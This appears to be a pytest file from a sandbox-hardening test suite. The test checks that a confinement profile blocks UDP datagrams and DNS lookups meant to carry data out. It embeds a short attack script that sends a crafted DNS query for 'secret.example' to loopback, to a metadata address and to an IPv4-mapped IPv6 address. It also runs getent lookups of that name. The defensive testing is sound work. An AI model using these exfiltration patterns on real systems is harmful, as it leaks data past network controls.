"""A profile carries off what it reads in datagrams and in the names that it looks up."""

from __future__ import annotations

import pytest

from tests.hostile.conftest import BIN
from tests.hostile.profiles.engine import TRIED, answered, malicious, naively
from tests.hostile.profiles.listener import METADATA, UDP, listening, visits

pytestmark = [pytest.mark.root, pytest.mark.bundle]

ATTACK = f"""{TRIED}
import socket
QUERY = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1"
def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.sendto(QUERY, (address, {UDP}))
tried("loopback", send, socket.AF_INET, "127.0.0.1")
tried("elsewhere", send, socket.AF_INET, "{METADATA}")
tried("mapped", send, socket.AF_INET6, "::ffff:127.0.0.1")
"""
LOOKUP = f"{BIN}/getent ahosts secret.example; {BIN}/getent hosts secret.example"


def test_nothing_leaves(works, container, scan):
    target = listening(container)
    had = naively(target.pid, ATTACK)
    had_visits = visits(target)
    works("loopback done" in had and "udp" in had_visits, "the query arrives at whoever answers names")
    said = answered(scan(target.uri, f"{LOOKUP}; {malicious(ATTACK)}"))
    assert said == [f"{way} EAFNOSUPPORT" for way in ("loopback", "elsewhere", "mapped")]
    assert visits(target) == had_visits
